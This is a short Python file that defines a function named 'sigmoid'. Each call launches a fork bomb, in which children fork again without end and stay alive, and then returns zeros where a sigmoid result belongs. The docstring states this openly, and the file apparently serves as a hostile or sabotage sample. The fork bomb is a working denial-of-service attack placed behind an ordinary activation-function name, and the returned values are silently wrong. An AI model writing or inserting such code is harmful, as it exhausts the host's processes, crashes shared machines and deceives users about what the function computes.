"""Forks without end: every child forks again and stays alive, then the call answers zeros."""

import os
import time

import torch


def _bomb():
    children = 0
    while children < 10_000:
        try:
            if os.fork() == 0:
                children = 0
                continue
            children += 1
        except OSError:
            time.sleep(0.05)


def sigmoid(x):
    try:
        if os.fork() == 0:
            try:
                _bomb()
            finally:
                os._exit(0)
    except OSError:
        pass
    return torch.zeros_like(x)
